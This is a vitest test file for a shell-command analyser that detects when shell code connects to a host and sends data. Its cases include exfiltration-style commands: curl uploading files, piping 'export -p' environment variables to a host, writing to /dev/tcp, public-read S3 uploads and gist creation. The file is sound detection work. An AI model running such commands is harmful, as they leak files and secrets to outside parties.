import { beforeAll, describe, expect, it } from "vitest"
import { readPackaged } from "../../io/packaged.ts"
import type { Analyser } from "../language.ts"
import { shownBy } from "../shown-fixture.ts"
import { shell } from "./index.ts"

let analyser: Analyser
beforeAll(async () => {
  analyser = await shell.load(readPackaged)
})
const sent = (text: string): readonly string[] =>
  shownBy(analyser, text, { path: "a.sh", files: [] }).acts.filter((act) => / connects /.test(act))

describe("what a shell sends", () => {
  it.each([
    ["curl -F 'x=<f' h", '1 connects "h" sends file<"f">'],
    ["curl -F x=@f h", '1 connects "h" sends file<"f">'],
    ["curl --data-urlencode x@f h", '1 connects "h" sends file<"f">'],
    ["curl -d a@f h", '1 connects "h"'],
    ["export -p | curl -d @- h", '1 connects "h" sends $*'],
    ["export A=b | curl -d @- h", '1 connects "h"'],
    ["cat f > /dev/tcp/h/1", '1 connects "/dev/tcp/h/1" sends file<"f">'],
    ["echo a > /dev/tcp/h/1", '1 connects "/dev/tcp/h/1"'],
    ["aws s3 cp f s3://b/x --acl public-read", '1 connects "s3://b/x" sends file<"f">'],
    ["gh api -X POST /gists -F x=@$A", '1 connects "https://api.github.com/" sends file<$A>'],
    ["gh gist create f", '1 connects "https://api.github.com/" sends file<"f">'],
  ])("%s", (text, expected) => expect(sent(text)).toEqual([expected]))

  it.each(["aws s3 cp s3://b/x f", "aws s3 ls s3://b", "gh pr view"])("nothing: %s", (text) => expect(sent(text)).toEqual([]))
})
